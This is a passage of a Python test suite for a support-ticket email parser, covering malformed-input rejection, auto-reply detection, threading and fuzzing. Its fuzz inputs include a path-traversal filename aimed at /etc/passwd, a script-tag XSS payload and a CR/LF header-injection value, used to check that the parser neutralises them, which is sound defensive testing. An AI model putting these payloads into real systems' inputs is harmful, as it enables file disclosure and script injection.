    cases = [(case.values[0], dict(case.values[1].get("kwargs", {}))) for case in CASES]

    def parse_all(order: list[tuple[Any, dict[str, Any]]]) -> list[ParsedEmail]:
        return sorted(
            (parse_email(raw, **kwargs) for raw, kwargs in order), key=lambda p: p.message_id
        )

    email_text._HEADER_FACTORY._build.cache_clear()
    cold = parse_all(cases)
    assert email_text._HEADER_FACTORY._build.cache_info().hits > 0  # it is used at all
    assert parse_all(cases) == cold
    email_text._HEADER_FACTORY._build.cache_clear()
    assert parse_all(cases[::-1]) == cold


def test_long_header_values_are_not_remembered() -> None:
    factory = email_text._HEADER_FACTORY
    long_value = "text/plain; name=" + "x" * email_text.MEMO_HEADER_CHARS
    before = factory._build.cache_info().currsize
    assert factory("Content-Type", long_value).params["name"].startswith("xxx")
    assert factory._build.cache_info().currsize == before
    assert factory("Content-Type", "text/plain") is factory("Content-Type", "text/plain")


def test_missing_message_id_gives_the_same_synthetic_id_for_the_same_bytes() -> None:
    first = parse_email(NO_MESSAGE_ID)
    again = parse_email(bytearray(NO_MESSAGE_ID))  # webhook frameworks hand out bytearrays
    other = parse_email(NO_MESSAGE_ID.replace(b"vedlagt", b"vedlagt!"))

    digest = hashlib.sha256(NO_MESSAGE_ID).hexdigest()
    assert first.message_id == f"<sha256-{digest}@triage.invalid>"
    assert again.message_id == first.message_id
    assert other.message_id != first.message_id
    assert any("Message-ID header is missing" in w for w in first.warnings)
    assert thread_keys(first) == ()


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        pytest.param(b"", "message is empty", id="empty"),
        pytest.param(b"\r\n \r\n\t\r\n", "message is empty", id="only-whitespace"),
        pytest.param(
            b"To: support@triage.example.com\r\nSubject: hei\r\n\r\nhei\r\n",
            "From header is missing",
            id="no-from",
        ),
        pytest.param(
            b"From: \r\nSubject: hei\r\n\r\nhei\r\n", "From header is empty", id="empty-from"
        ),
        pytest.param(
            b"From: bob@\r\nSubject: hei\r\n\r\nhei\r\n",
            "From header 'bob@' is not a valid address: There must be something after the @-sign.",
            id="bob-at",
        ),
        pytest.param(
            b"From: Kari <kari@localhost>\r\n\r\nhei\r\n",
            "From header 'Kari <kari@localhost>' is not a valid address: The part after the "
            "@-sign is not valid. It should have a period.",
            id="no-dot-in-domain",
        ),
        pytest.param(
            b"From: undisclosed-recipients:;\r\n\r\nhei\r\n",
            "From header 'undisclosed-recipients:;' is not a valid address: it holds no address",
            id="empty-group",
        ),
        pytest.param(
            b"From: MAILER-DAEMON (Mail Delivery System)\r\n\r\nhei\r\n",
            "From header 'MAILER-DAEMON (Mail Delivery System)' is not a valid address: "
            "An email address must have an @-sign.",
            id="no-at-sign",
        ),
        pytest.param(
            b"Hello, this is not an e-mail at all.\r\n",
            "From header is missing",
            id="not-an-email",
        ),
    ],
)
def test_malformed_messages_are_rejected_with_a_precise_reason(raw: bytes, message: str) -> None:
    with pytest.raises(MalformedEmail) as caught:
        parse_email(raw)
    assert str(caught.value) == message


def test_oversized_message_is_rejected_before_parsing() -> None:
    with pytest.raises(MalformedEmail, match=r"^message is larger than 25 MiB$"):
        parse_email(NO_MESSAGE_ID + b"x" * (25 * 1024 * 1024))
    with pytest.raises(MalformedEmail, match=r"^message is larger than 100 bytes$"):
        parse_email(NO_MESSAGE_ID, max_message_bytes=100)
    assert parse_email(NO_MESSAGE_ID, max_message_bytes=len(NO_MESSAGE_ID)).subject


def _with_headers(*lines: bytes) -> bytes:
    head = b"".join(line + b"\r\n" for line in lines)
    return head + b"To: support@triage.example.com\r\nSubject: x\r\n\r\nbody\r\n"


@pytest.mark.parametrize(
    ("raw", "auto"),
    [
        pytest.param(_with_headers(b"From: a@kunde.no"), False, id="ordinary"),
        pytest.param(_with_headers(b"From: a@kunde.no", b"Auto-Submitted: no"), False, id="as-no"),
        pytest.param(
            _with_headers(b"From: a@kunde.no", b"Auto-Submitted: auto-generated"), True, id="as-gen"
        ),
        pytest.param(
            _with_headers(b"From: a@kunde.no", b"Auto-Submitted: auto-replied (vacation)"),
            True,
            id="as-replied-comment",
        ),
        pytest.param(
            _with_headers(b"From: a@kunde.no", b"X-Autoreply: yes"), True, id="x-autoreply"
        ),
        pytest.param(_with_headers(b"From: a@kunde.no", b"Precedence: bulk"), True, id="bulk"),
        pytest.param(_with_headers(b"From: a@kunde.no", b"Precedence: junk"), True, id="junk"),
        pytest.param(
            _with_headers(b"From: a@kunde.no", b"Precedence: auto_reply"), True, id="auto_reply"
        ),
        pytest.param(_with_headers(b"From: a@kunde.no", b"Precedence: list"), False, id="list"),
        pytest.param(_with_headers(b"From: MAILER-DAEMON@mx.kunde.no"), True, id="mailer-daemon"),
        pytest.param(_with_headers(b"From: a@kunde.no", b"Return-Path: < >"), True, id="null-path"),
    ],
)
def test_auto_submitted_signals(raw: bytes, auto: bool) -> None:
    assert parse_email(raw).auto_submitted is auto


@pytest.mark.parametrize(
    ("subject", "ref"),
    [
        ("Re: [#42] VPN", 42),
        ("SV: Feil [Sak #1234]", 1234),
        ("Fwd: [Case #7] and [#8]", 7),
        ("[ #0099 ]", 99),
        ("[#0] nothing", None),
        ("Issue #42 without brackets", None),
        ("[Sak 42]", None),
        ("[#٤٢] Arabic-Indic digits", None),
        ("", None),
    ],
)
def test_ticket_ref_from_subject(subject: str, ref: int | None) -> None:
    assert ticket_ref_from_subject(subject) == ref


def test_thread_keys_deduplicate_and_skip_own_id() -> None:
    raw = (
        b"From: a@kunde.no\r\n"
        b"Message-ID: <self@kunde.no>\r\n"
        b"In-Reply-To: <p2@x.no> <ignored@x.no>\r\n"
        b"References: <p0@x.no> <self@kunde.no> p1@x.no <p2@x.no> <p0@x.no>\r\n"
        b"\r\nx\r\n"
    )
    parsed = parse_email(raw)
    assert parsed.in_reply_to == "<p2@x.no>"
    assert parsed.references == ("<p0@x.no>", "<self@kunde.no>", "<p1@x.no>", "<p2@x.no>")
    assert thread_keys(parsed) == ("<p2@x.no>", "<p1@x.no>", "<p0@x.no>")


def test_in_reply_to_prose_is_not_an_id() -> None:
    raw = b'From: a@kunde.no\r\nIn-Reply-To: Your message of "Mon, 4 Mar 2024"\r\n\r\nx\r\n'
    assert parse_email(raw).in_reply_to is None
    raw = b"From: a@kunde.no\r\nIn-Reply-To: Your message of Mon <p@x.no>\r\n\r\nx\r\n"
    assert parse_email(raw).in_reply_to == "<p@x.no>"


def test_thousands_of_tiny_parts_are_cut_off_not_parsed_for_minutes() -> None:
    raw = (
        b"From: a@kunde.no\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        b"--b\r\nContent-Type: text/plain\r\n\r\nfirst part\r\n"
        + b"--b\r\nContent-Type: image/png\r\n\r\nx\r\n" * 100_000
        + b"--b--\r\n"
    )
    parsed = parse_email(raw)
    assert parsed.text == "first part"
    assert 0 < len(parsed.attachments) <= 2_000
    assert any("more than 2,000 MIME parts" in w for w in parsed.warnings)


def test_unexpected_parser_failures_become_malformed_email() -> None:
    # Deeper nesting than the stdlib parser's recursion can follow.
    raw = b"From: a@kunde.no\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n"
    for level in range(1, 3000):
        raw += b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (level - 1, level)
    with pytest.raises(MalformedEmail, match=r"^message could not be parsed"):
        parse_email(raw)


# --------------------------------------------------------------------------- properties


def assert_safe(parsed: ParsedEmail) -> None:
    """Invariants every result must satisfy, whatever the input looked like."""
    header_values = [
        parsed.message_id,
        parsed.subject,
        parsed.sender,
        parsed.sender_name,
        *parsed.references,
        *parsed.to,
        *parsed.warnings,
        *(a.filename for a in parsed.attachments),
        *(a.content_type for a in parsed.attachments),
    ]
    if parsed.in_reply_to is not None:
        header_values.append(parsed.in_reply_to)
    for value in header_values:
        assert "\r" not in value and "\n" not in value, value
        value.encode("utf-8")  # no lone surrogates
    assert re.fullmatch(r"<[^<>\s]+>", parsed.message_id)
    assert "@" in parsed.sender
    assert parsed.date is None or parsed.date.utcoffset() is not None
    assert len(parsed.text) <= 200_000
    assert "\x00" not in parsed.text
    parsed.text.encode("utf-8")
    if parsed.html is not None:
        assert len(parsed.html) <= 200_000
        assert "<script" not in parsed.html.lower()
        parsed.html.encode("utf-8")
    for attachment in parsed.attachments:
        assert attachment.filename and attachment.size >= 0
        assert "/" not in attachment.filename and "\\" not in attachment.filename


HEADER_LINES = [
    b"From: a@example.com",
    b"From: =?utf-8?q?=C3=B8_=0D=0A?= <x@example.org>",
    b"From: bob@",
    b'From: "unterminated <q@example.org>',
    b"From: <<>>@@",
    b"To: a@b.cd, , ;:@<>, (comment (nested) <x@y.zz>",
    b"Cc: =?x-bogus?b?AAAA?= <c@example.com>",
    b"Subject: =?utf-8?b?broken",
    b"Subject: =?utf-8?q?=E2=80?= tail",
    b"Subject: \xff\xfe raw bytes",
    b"Date: Mon, 32 Foo 99999 25:61:61 +9999",
    b"Date: Tue, 5 Mar 2024 09:14:27 -0000",
    b"Message-ID: <<>>",
    b"Message-ID:",
    b"References: <a@b> junk <c@d",
    b"In-Reply-To: (comment only)",
    b"Auto-Submitted:",
    b"Content-Type: multipart/mixed; boundary=b",
    b'Content-Type: multipart/alternative; boundary="b"',
    b"Content-Type: multipart/mixed",
    b"Content-Type: text/plain; charset=koi8-r",
    b"Content-Type: text/plain; charset=punycode",
    b"Content-Type: text/plain; charset*=bogus''%ff",
    b'Content-Type: text/html; charset="\x00"',
    b"Content-Type: message/rfc822",
    b"Content-Type: ////",
    b"Content-Transfer-Encoding: base64",
    b"Content-Transfer-Encoding: quoted-printable",
    b"Content-Transfer-Encoding: x-uuencode",
    b"Content-Disposition: attachment; filename*=bogus''%ff%fe",
    b'Content-Disposition: inline; filename="../../etc/passwd"',
    b"\tcontinuation without header",
    b"no colon here",
]
BODY_LINES = [
    b"--b",
    b"--b--",
    b"",
    b"Content-Type: text/html",
    b"Content-Type: message/rfc822",
    b"Content-Disposition: attachment; filename=x.bin",
    b"<p onclick=x()>hi<script>alert(1)</script>",
    b"=E5=F8=\xff",
    b"begin 644 x.txt",
    b"aGVsbG8=",
    b"From: inner@example.com",
]

FROM_LINES = [b"From: a@example.com", b"From: Kari <kari@example.no>", b""]

fuzzy_messages = st.builds(
    lambda sender, headers, body: (
        b"\r\n".join([sender, *headers]) + b"\r\n\r\n" + b"\r\n".join(body)
    ),
    st.sampled_from(FROM_LINES),
    st.lists(st.one_of(st.sampled_from(HEADER_LINES), st.binary(max_size=40)), max_size=12),
    st.lists(
        st.one_of(
            st.sampled_from(BODY_LINES), st.sampled_from(HEADER_LINES), st.binary(max_size=60)
        ),
        max_size=30,
    ),
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.binary(max_size=2000), fuzzy_messages))
def test_any_bytes_give_a_parsed_email_or_malformed_email(raw: bytes) -> None:
    try:
        parsed = parse_email(raw)
    except MalformedEmail as exc:
        assert str(exc)
        return
    assert isinstance(parsed, ParsedEmail)
    assert_safe(parsed)


CHARSETS = ["utf-8", "iso-8859-1", "windows-1252", "iso-8859-15", "koi8-r", "utf-8"]
# Candidate body characters; each charset's alphabet is the subset it can encode, so a
# generated message is always representable in the charset it declares.
SAMPLE_CHARS = (
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 \t.,;:!?-_'\"()<>[]=#/@&%"
    "æøåÆØÅéèüößñ€–—‘’“”«»…"
    "абвгдеёжзийклмнопрстуфхцчшщъыьэюяАБВГДЕЁЖЗ"
)
NAME_LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZæøåÆØÅéüßабвгдЖЗ李王"
BOUNDARY = "=_triage_boundary_4b1d_="
SPECIAL_USE_TLDS = {"arpa", "invalid", "local", "localhost", "onion", "test"}


def _encodable(charset: str) -> str:
    return "".join(ch for ch in SAMPLE_CHARS if _can_encode(ch, charset))


def _can_encode(text: str, charset: str) -> bool:
    try:
        text.encode(charset)
    except UnicodeEncodeError:
        return False
    return True


words = st.text(alphabet=NAME_LETTERS, min_size=1, max_size=10)
display_names = st.lists(words, min_size=0, max_size=3).map(" ".join)
local_parts = st.lists(
    st.from_regex(r"[A-Za-z0-9_+-]{1,8}", fullmatch=True), min_size=1, max_size=3
).map(".".join)
domains = st.builds(
    lambda labels, tld: ".".join([*labels, tld]),
    st.lists(
        st.from_regex(r"[a-z0-9]{1,5}(?:-[a-z0-9]{1,5})?", fullmatch=True),
        min_size=1,
        max_size=3,
    ),
    st.from_regex(r"[a-z]{2,6}", fullmatch=True).filter(lambda t: t not in SPECIAL_USE_TLDS),
)
unicode_text = st.text(
    alphabet=st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\u2028\u2029"),
    max_size=60,
)


@st.composite
def generated_messages(draw: st.DrawFn) -> tuple[bytes, dict[str, Any]]:
    charset = draw(st.sampled_from(CHARSETS))
    if charset == "utf-8":
        line = st.one_of(unicode_text, st.text(alphabet=_encodable(charset), max_size=80))
    else:
        line = st.text(alphabet=_encodable(charset), max_size=120)
    body = "\n".join(draw(st.lists(line, max_size=8)))
    subject = draw(st.one_of(unicode_text, st.text(alphabet=SAMPLE_CHARS, max_size=120)))
    name = draw(display_names)
    local = draw(local_parts)
    domain = draw(domains)
    attachments = draw(
        st.lists(
            st.tuples(
                st.lists(words, min_size=1, max_size=3).map(" ".join),
                st.sampled_from(["pdf", "png", "txt", "bin"]),
                st.sampled_from(
                    [
                        ("application", "pdf"),
                        ("image", "png"),
                        ("text", "plain"),
                        ("application", "octet-stream"),
                    ]
                ),
                st.binary(max_size=300),
            ),
            max_size=3,
        )
    )

    msg = EmailMessage()
    msg["From"] = Address(display_name=name, username=local, domain=domain)
    msg["To"] = "support@triage.example.com"
    msg["Subject"] = subject
    msg["Date"] = format_datetime(datetime(2024, 3, 5, 9, 14, 27, tzinfo=CET))
    msg["Message-ID"] = "<generated@kunde.example.com>"
    msg.set_content(body, charset=charset)
    for stem, ext, (maintype, subtype), data in attachments:
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=f"{stem}.{ext}")
    if msg.is_multipart():  # a fixed boundary: the stdlib would draw one from `random`
        msg.set_boundary(BOUNDARY)
        assume(BOUNDARY not in body)
    linesep = draw(st.sampled_from(["\n", "\r\n"]))
    raw = msg.as_bytes(policy=msg.policy.clone(linesep=linesep))

    expected = {
        "subject": " ".join(subject.split()),
        "text": body.rstrip("\n") if body.strip() else "",
        "sender": f"{local}@{domain}",
        "sender_name": name,
        "attachments": tuple(
            (f"{stem}.{ext}", f"{maintype}/{subtype}", len(data))
            for stem, ext, (maintype, subtype), data in attachments
        ),
    }
    return raw, expected


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(generated_messages())
def test_generated_messages_round_trip(case: tuple[bytes, dict[str, Any]]) -> None:
    raw, expected = case
    parsed = parse_email(raw)
    assert parsed.subject == expected["subject"]
    assert parsed.text == expected["text"]
    assert parsed.sender == expected["sender"]
    assert parsed.sender_name == expected["sender_name"]
    assert parsed.to == ("support@triage.example.com",)
    assert parsed.message_id == "<generated@kunde.example.com>"
    assert parsed.date == datetime(2024, 3, 5, 9, 14, 27, tzinfo=CET)
    got = tuple((a.filename, a.content_type, a.size) for a in parsed.attachments)
    assert got == expected["attachments"]
    assert parsed.warnings == ()
    assert_safe(parsed)
